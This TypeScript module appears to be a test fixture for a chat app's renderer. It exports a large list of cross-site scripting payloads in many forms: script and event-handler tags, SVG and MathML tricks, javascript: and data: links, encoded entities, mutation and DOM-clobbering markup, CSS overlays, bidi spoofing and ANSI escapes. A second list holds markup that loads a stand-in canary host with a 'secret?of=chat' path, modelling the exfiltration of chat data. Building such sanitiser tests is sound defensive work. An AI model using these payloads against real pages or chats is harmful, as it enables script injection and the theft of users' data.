/** What a payload calls when it runs. */
const run = 'kilodeskRan()';

/** The domain of every address that a payload would load or tell something; hosts of it lead to nobody. */
export const canaryDomain = 'canary.example';

let hosts = 0;
const canary = (path = 'p'): string => {
  hosts += 1;
  return `https://h${hosts}.${canaryDomain}/${path}`;
};

const scripts = [
  `<script>${run}</script>`, `<SCRIPT>${run}</SCRIPT>`, `<script >${run}</script >`, `<script\n>${run}</script>`, `<script/x>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`, `<<script>${run}//<</script>`, `</p><script>${run}</script>`, `<script type=module>${run}</script>`,
  `<script src=data:text/javascript,${run}></script>`, `"><script>${run}</script>`, `'><script>${run}</script>`, `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`, `</style><script>${run}</script>`, `-->\n<script>${run}</script>`, `]]><script>${run}</script>`,
  `<script>${run}`, `\u0000<script>${run}</script>`, `<script\u0000>${run}</script>`, `\${${run}}`, `{{constructor.constructor('${run}')()}}`, `<%= ${run} %>`,
  `';${run};'`, `\`;${run};\``, `<noscript><p title="</noscript><script>${run}</script>">`, `\uFF1Cscript\uFF1E${run}\uFF1C/script\uFF1E`,
];

const handlerTags = ['img src=x', 'svg', 'body', 'details open', 'video src=x', 'audio src=x', 'input autofocus', 'iframe src=about:blank', 'marquee', 'a href=# autofocus tabindex=0', 'object data=x', 'style'];
const handlers = ['onerror', 'onload', 'ontoggle', 'onfocus', 'onstart', 'onpointerover', 'onanimationstart'];
const events = handlerTags.flatMap((tag) => handlers.map((handler) => `<${tag} ${handler}=${run}>`));

const svg = [
  `<svg/onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><script href=data:,${run} /></svg>`, `<svg><a href=javascript:${run}><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><set onbegin=${run} attributeName=x>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></foreignObject></svg>`, `<svg><image href=x onerror=${run}></svg>`, `<svg><style>*{background:url(x)}</style></svg>`,
  `<svg><animate href=#x attributeName=href values=javascript:${run} /><a id=x><text>x</text></a></svg>`, `<svg><desc><![CDATA[</desc><script>${run}</script>]]></svg>`,
  `<svg><handler type="text/javascript">${run}</handler></svg>`, `<svg><title><img src=x onerror=${run}></title></svg>`, `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
  `![x](data:image/svg+xml;utf8,<svg/onload=${run}>)`, `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9a2lsb2Rlc2tSYW4oKT4=)`, `\`\`\`svg\n<svg onload=${run}>\n\`\`\``, `\`\`\`html\n<img src=x onerror=${run}>\n\`\`\``,
  `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${run}>"]\n\`\`\``, `\`\`\`mermaid\n%%{init: {"securityLevel": "loose"}}%%\ngraph TD; click A call ${run}\n\`\`\``,
];

const mathMl = [
  `<math><a href=javascript:${run}>x</a></math>`, `<math href=javascript:${run}>x</math>`, `<math><mtext><script>${run}</script></mtext></math>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`,
  `<math><maction actiontype="statusline#${run}" href=javascript:${run}>x</maction></math>`, `<math><mi xlink:href=javascript:${run}>x</mi></math>`, `$\\href{javascript:${run}}{x}$`, `$\\url{javascript:${run}}$`,
  `$\\htmlData{x=1}{<img src=x onerror=${run}>}$`, `$\\text{</span><script>${run}</script>}$`, `$$\\includegraphics{x" onerror="${run}}$$`, `$\\def\\a{\\a\\a}\\a$`, `$\\htmlStyle{background:url(x)}{x}$`,
];

const schemes = [
  `javascript:${run}`, `JaVaScRiPt:${run}`, ` javascript:${run}`, `java\tscript:${run}`, `java\nscript:${run}`, `&#106;avascript:${run}`, `&#x6a;avascript:${run}`, `javascript&colon;${run}`,
  `%6aavascript:${run}`, `\u0001javascript:${run}`, `javascript://https://x.example/%0a${run}`, `vbscript:${run}`, `data:text/html,<script>${run}</script>`,
  'data:text/html;base64,PHNjcmlwdD5raWxvZGVza1JhbigpPC9zY3JpcHQ+', `data:application/xhtml+xml,<x onload="${run}"/>`, `blob:${run}`, 'file:///etc/passwd', 'app://kilodesk/index.html', 'view-source:javascript:1',
];
const addresses = schemes.flatMap((url) => [`[x](${url})`, `[x](<${url}>)`, `![x](${url})`, `<${url}>`, `[x]\n\n[x]: ${url}`, `<a href="${url}">x</a>`]);

const entities = [
  `&lt;script&gt;${run}&lt;/script&gt;`, `&amp;lt;script&amp;gt;${run}`, `&#60;script&#62;${run}&#60;/script&#62;`, `&#x3c;img src=x onerror=${run}&#x3e;`, `&LT;script&GT;${run}`, `&#0000060;script>${run}</script>`,
  `&#x00003C;script>${run}`, '&#0;', '&#xD800;', '&#x110000;', '&nbsp;&zwnj;&zwj;&rlm;', `&quot; onmouseover=&quot;${run}`, `&apos;;${run};&apos;`, `&NewLine;javascript:${run}`, `[x](javascript&Tab;:${run})`,
];

const mutations = [
  `<noscript><style></noscript><img src=x onerror=${run}></style>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`, `<img src="x\` \`<script>${run}</script>"\` \`>`,
  `<listing>&lt;img src=1 onerror=${run}&gt;</listing>`, `<a title="\` onmouseover=${run} ">x</a>`, `<p id="&#10;<img src=x onerror=${run}>">`, `<template><s><template><s><img src=x onerror=${run}>@</s></template></s></template>`,
  `<select><noembed></select><script>${run}</script></noembed>`, `<frameset onload=${run}>`, `<xmp><p title="</xmp><svg/onload=${run}>"></xmp>`, `<!--><svg onload=${run}>-->`, `<!--!><script>${run}</script>-->`,
  `<b id=__proto__><a id=attributes>clobber</a></b>`, `<form name=body><input name=firstChild></form>`, `<a id=kilodesk><a id=kilodesk name=invoke href=data:,x>`, '[constructor] [__proto__]\n\n[__proto__]: https://x.example', '[^__proto__]\n\n[^__proto__]: x[^constructor]',
  `|<img src=x onerror=${run}>|\n|-|\n|\`<script>${run}</script>\`|`, `> - 1. # <svg onload=${run}>`, `[![<img src=x onerror=${run}>](x)](javascript:${run})`,
];

const css = [
  '<style>*{display:none!important}</style>', `<style>@import "x";</style>`, `<div style="position:fixed;inset:0;z-index:99999;background:red">over</div>`, `<p style="background:url(javascript:${run})">`, `<p style="width:expression(${run})">`,
  `<p style="behavior:url(x.htc)">`, `<p style="-moz-binding:url(x.xml#x)">`, `<link rel=stylesheet href=data:,*%7bdisplay:none%7d>`, `<div class="composer fixed">x</div>`, `}</style><script>${run}</script>`,
  `expression(${run})`, `\\3c script\\3e ${run}`, `$\\htmlStyle{position:fixed;inset:0}{x}$`, `$\\rule{99999em}{99999em}$`, `$\\color{red;background:url(x)}{x}$`,
];

const bidi = ['\u202E', '\u202D', '\u202A', '\u202B', '\u2066', '\u2067', '\u2068', '\u200F', '\u061C', '\u200B', '\u2060', '\uFEFF'].flatMap((mark) => [
  `${mark}https://x.example/gpj.exe${mark}`, `[${mark}knab](https://x.example/${mark}moc.knab)`, `safe${mark}\`code ${mark} code\``,
]);

const ansi = [
  '\u001b[31mred\u001b[0m', '\u001b]0;title\u0007', '\u001b]8;;https://x.example\u0007link\u001b]8;;\u0007', '\u001b[2J\u001b[H', '\u009b31m', '\u001b[?1049h', '\u001bPq#0;2;0;0;0\u001b\\', '\u0007\u0008\u007f', '\r\nover\rwritten', '\u0085\u2028\u2029', '\ud800', '\udfff lone', 'Z\u0351\u036b\u0343'.repeat(60),
];

/** Texts that try to run a script, to load or to tell something, to cover the window or to look like something else. */
export const hostilePayloads: readonly string[] = [scripts, events, svg, mathMl, addresses, entities, mutations, css, bidi, ansi].flat();

/** Texts that would tell a server something, were any of it loaded. Each has a host of its own. */
export const exfiltrations: readonly string[] = [
  (url: string) => `![x](${url})`, (url: string) => `![x][r]\n\n[r]: ${url}`, (url: string) => `[![x](${url})](${url})`, (url: string) => `<img src="${url}">`, (url: string) => `<img srcset="${url} 2x">`,
  (url: string) => `<picture><source srcset="${url}"></picture>`, (url: string) => `<video src="${url}" poster="${url}" autoplay></video>`, (url: string) => `<audio src="${url}" autoplay></audio>`, (url: string) => `<track src="${url}">`,
  (url: string) => `<iframe src="${url}"></iframe>`, (url: string) => `<iframe srcdoc="<img src='${url}'>"></iframe>`, (url: string) => `<object data="${url}"></object>`, (url: string) => `<embed src="${url}">`, (url: string) => `<frame src="${url}">`,
  (url: string) => `<link rel=stylesheet href="${url}">`, (url: string) => `<link rel=dns-prefetch href="${url}">`, (url: string) => `<link rel=preconnect href="${url}">`, (url: string) => `<link rel=prefetch href="${url}">`, (url: string) => `<link rel=prerender href="${url}">`,
  (url: string) => `<link rel=preload as=image href="${url}">`, (url: string) => `<link rel=icon href="${url}">`, (url: string) => `<link rel=manifest href="${url}">`, (url: string) => `<script src="${url}"></script>`,
  (url: string) => `<script type=speculationrules>{"prefetch":[{"urls":["${url}"]}]}</script>`, (url: string) => `<style>@import url("${url}");</style>`, (url: string) => `<style>@font-face{font-family:x;src:url("${url}")}*{font-family:x}</style>`,
  (url: string) => `<style>body{background:url("${url}")}</style>`, (url: string) => `<p style="background:url('${url}')">x</p>`, (url: string) => `<p style="list-style-image:url('${url}');cursor:url('${url}'),auto">x</p>`, (url: string) => `<table background="${url}"><td>x</table>`,
  (url: string) => `<body background="${url}">`, (url: string) => `<input type=image src="${url}">`, (url: string) => `<form action="${url}"><button autofocus>x</button></form>`, (url: string) => `<meta http-equiv=refresh content="0;url=${url}">`, (url: string) => `<base href="${url}">`,
  (url: string) => `<svg><image href="${url}"/></svg>`, (url: string) => `<svg><use href="${url}#x"/></svg>`, (url: string) => `<svg><filter><feImage href="${url}"/></filter></svg>`, (url: string) => `<a href="${url}" ping="${url}">x</a>`, (url: string) => `[click me](${url})`,
  (url: string) => `<${url}>`, (url: string) => `$\\includegraphics{${url}}$`, (url: string) => `$\\href{${url}}{x}$`, (url: string) => `\`\`\`mermaid\ngraph TD; A["<img src='${url}'>"]\n\`\`\``, (url: string) => `[^1]\n\n[^1]: ![x](${url})`, (url: string) => `| ![x](${url}) |\n|---|`,
].map((shape) => shape(canary('secret?of=chat')));
